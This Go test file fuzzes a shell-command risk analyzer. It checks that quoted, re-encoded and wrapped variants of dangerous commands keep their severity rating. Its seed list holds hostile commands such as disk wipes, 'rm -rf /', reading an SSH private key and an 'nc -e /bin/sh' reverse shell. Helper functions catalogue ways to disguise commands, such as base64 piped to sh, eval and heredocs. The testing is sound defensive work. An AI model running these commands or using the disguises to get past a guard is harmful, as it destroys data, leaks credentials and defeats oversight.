package shell

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/handrail-bot/handrail/policy/longtest"
)

// TestVariantsKeepTheirTier wraps, quotes and respells commands at random. No
// variant may be rated lower than the command it hides.
func TestVariantsKeepTheirTier(t *testing.T) {
	want := 100_000
	if !longtest.Long() || raceEnabled {
		want = 4_000
	}
	rnd := rand.New(rand.NewPCG(1, 2))
	type base struct {
		command string
		tier    Severity
	}
	bases := make([]base, len(variantBases))
	for i, c := range variantBases {
		bases[i] = base{c, Analyze(c).Severity}
		if bases[i].tier == None {
			t.Fatalf("%q is harmless, so nothing can be lost", c)
		}
	}
	lost := 0
	for i := range want {
		b := bases[rnd.IntN(len(bases))]
		words := strings.Fields(b.command)
		text := b.command
		if rnd.IntN(2) == 0 {
			text = respell(rnd, words)
		}
		for range rnd.IntN(3) {
			text = wrapVariant(rnd, text)
		}
		if !strings.ContainsAny(text, ";|&(){}<>\n") {
			text = []string{"! ", "A=b ", "\\\n", "2>/dev/null ", ""}[rnd.IntN(5)] + text
		}
		if got := Analyze(text); got.Severity < b.tier {
			lost++
			if lost < 20 {
				t.Errorf("variant %d of %q is %s, want at least %s: %q", i, b.command, got.Severity, b.tier, text)
			}
		}
	}
	if lost > 0 {
		t.Errorf("%d of %d variants lost their tier", lost, want)
	}
}

// variantBases are commands without quoting, so that they can be respelled.
var variantBases = []string{
	"rm -rf /", "rm -rf /usr /lib", "rm -rf ../other", "rm -rf node_modules", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sda1",
	"chmod -R 777 /etc", "chmod 777 a", "shutdown -h now", "kill -9 1234", "kill -9 -1", "cat /home/u/.ssh/id_rsa", "npm publish",
	"npm install left-pad", "pip install x", "git push --force origin main", "git reset --hard", "git clone https://example.com/r.git",
	"git filter-branch --all", "docker run --privileged alpine", "curl -o a https://example.com/a", "nc -e /bin/sh 203.0.113.9 1",
	"terraform destroy", "kubectl delete namespace prod", "cp a .github/workflows/a.yml", "tee /etc/passwd", "systemctl stop nginx",
	"useradd eve", "printenv", "find / -delete", "scp a host:b", "gh repo delete o/r", "mv /etc /x", "ln -s / r", "wipefs -a /dev/sda",
}

// respell writes each word in another way that means the same.
func respell(rnd *rand.Rand, words []string) string {
	out := make([]string, len(words))
	prefix := ""
	for i, w := range words {
		switch rnd.IntN(9) {
		case 0:
			out[i] = "'" + w + "'"
		case 1:
			out[i] = `"` + w + `"`
		case 2:
			at := rnd.IntN(len(w))
			out[i] = w[:at] + `\` + w[at:]
		case 3:
			at := rnd.IntN(len(w))
			out[i] = w[:at] + "''" + w[at:]
		case 4:
			var b strings.Builder
			for _, c := range []byte(w) {
				fmt.Fprintf(&b, `\x%02x`, c)
			}
			out[i] = "$'" + b.String() + "'"
		case 5:
			name := fmt.Sprintf("v%d", i)
			prefix += name + "='" + w + "'; "
			out[i] = "$" + name
		case 6:
			out[i] = "$(printf %s " + w + ")"
		case 7:
			out[i] = "${unset_name:-" + w + "}"
		default:
			out[i] = w
		}
	}
	return prefix + strings.Join(out, []string{" ", "  ", "\t", " \\\n "}[rnd.IntN(4)])
}

// wrapVariant puts a command into a place where it still runs.
func wrapVariant(rnd *rand.Rand, c string) string {
	inQuotes := quoted(c)
	simple := !strings.ContainsAny(c, ";|&(){}<>\n") && !strings.HasPrefix(c, "if ")
	if simple && rnd.IntN(2) == 0 {
		prefix := []string{"sudo -n ", "env A=1 ", "timeout 5 ", "nohup ", "nice -n 5 ", "time ", "command ", "stdbuf -oL ", "setsid ", "exec ", "ionice -c 3 ", "xargs ", "busybox ", "doas -u root ", "flock /tmp/l ", "taskset -c 0 ", "strace -f ", "unshare -r "}
		return prefix[rnd.IntN(len(prefix))] + c
	}
	switch rnd.IntN(20) {
	case 0:
		return "sh -c " + inQuotes
	case 1:
		return "bash -lc " + inQuotes
	case 2:
		return "eval " + inQuotes
	case 3:
		return "(" + c + "\n)"
	case 4:
		return "{ " + c + "\n}"
	case 5:
		return "true && { " + c + "\n}"
	case 6:
		return "if true; then " + c + "\nfi"
	case 7:
		return "f() { " + c + "\n}; f"
	case 8:
		return "echo \"$(" + c + "\n)\""
	case 9:
		return "cat <(" + c + "\n)"
	case 10:
		return "bash <<'LIMIT'\n" + c + "\nLIMIT"
	case 11:
		return "echo " + base64.StdEncoding.EncodeToString([]byte(c)) + " | base64 -d | sh"
	case 12:
		return "trap " + inQuotes + " EXIT"
	case 13:
		return "x=" + inQuotes + "; eval \"$x\""
	case 14:
		return "for i in 1; do " + c + "\ndone"
	case 15:
		return "case x in *) " + c + "\n;; esac"
	case 16:
		return "ls\n" + c + "\nls"
	case 17:
		return ". /dev/stdin <<'LIMIT'\n" + c + "\nLIMIT"
	case 18:
		return "find . -exec sh -c " + inQuotes + " \\;"
	}
	return "sudo -- sh -c " + inQuotes
}

// FuzzAnalyze looks for panics, for answers that take long, and for
// verdicts that contradict themselves.
func FuzzAnalyze(f *testing.F) {
	for _, c := range variantBases {
		f.Add(c)
	}
	for _, r := range tables().Rules {
		f.Add(r.Example)
	}
	for _, c := range []string{"${a:b:c}", "a[$(x)]=1", "$'\\x", "<(", "{1..9}{a..z}", "$((1/0))", "${!a}", "case", "~\\", "x=${x}${x}"} {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, line string) {
		v := Analyze(line)
		if v.Severity < None || v.Severity > Critical {
			t.Fatalf("tier %d of %q does not exist", v.Severity, line)
		}
		if hasReason(v, "analysis-broken") {
			t.Fatalf("the analysis of %q broke: %v", line, v.Reasons)
		}
		if v.ReadOnly && (v.Severity > None || len(v.Writes) > 0) {
			t.Fatalf("%q only reads, but is %s and writes %v", line, v.Severity, v.Writes)
		}
		if v.Severity > None && len(v.Reasons) == 0 {
			t.Fatalf("%q is %s for no reason", line, v.Severity)
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	for _, c := range []string{"ls -la", "cd internal && go test ./... 2>&1 | tail -20", "find . -name '*.go' -exec grep -l foo {} +", "git add -A && git commit -m 'x'"} {
		b.Run(c, func(b *testing.B) {
			for b.Loop() {
				Analyze(c)
			}
		})
	}
}
